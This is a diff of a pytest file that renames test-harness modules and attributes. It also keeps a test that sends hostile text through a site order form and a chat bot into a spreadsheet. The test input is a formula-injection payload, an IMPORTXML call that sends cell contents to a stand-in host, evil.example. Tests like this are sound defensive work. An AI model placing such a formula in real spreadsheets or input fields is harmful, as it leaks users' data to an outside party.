@@ -6,9 +6,9 @@ import pytest
 import requests
 from gspread.utils import ValueRenderOption
 
-from tests.house import CLIENT_BOT, HANG_S, wait_for
-from tests.pitfalls.company import JULIA, Company
-from tests.pitfalls.sheet import Sheet
+from tests.harness.company import JULIA, Company
+from tests.harness.sheet import Sheet
+from tests.harness.system import CLIENT_BOT, HANG_S, wait_for
 from tests.test_whole_story import order_on_the_site
 
 FORMULA = '=IMPORTXML("https://evil.example/?"&A2; "//a")'
@@ -63,7 +63,7 @@ def test_pitfall_39_hostile_text_by_the_form_and_the_bot(company: Company, sheet
     pages = {}
     for text in forms:
         number, page = order_on_the_site(
-            company.house, name=text, phone="8 900 123-45-67", address=text, problem=text
+            company.system, name=text, phone="8 900 123-45-67", address=text, problem=text
         )
         pages[int(number)] = (text, page)
     _orders_in_the_bot(company, FORMULA)
@@ -86,11 +86,11 @@ def test_pitfall_39_hostile_text_by_the_form_and_the_bot(company: Company, sheet
 def _orders_in_the_bot(company: Company, text: str) -> None:
     """Let Julia order something in the bot, with this text wherever text is asked for."""
     said = ["⚡ Услуги электрика", text, text, "Юля", "8 900 123-45-67", "✅ Подтвердить"]
-    known = len(company.house.chat(CLIENT_BOT, JULIA))
+    known = len(company.system.chat(CLIENT_BOT, JULIA))
     for count, words in enumerate(said, start=1):
-        company.house.say(CLIENT_BOT, JULIA, words)
+        company.system.say(CLIENT_BOT, JULIA, words)
         _answered(company, known + 2 * count)
 
 
 def _answered(company: Company, messages: int) -> None:
-    wait_for(lambda: len(company.house.chat(CLIENT_BOT, JULIA)) >= messages, "an answer")
+    wait_for(lambda: len(company.system.chat(CLIENT_BOT, JULIA)) >= messages, "an answer")
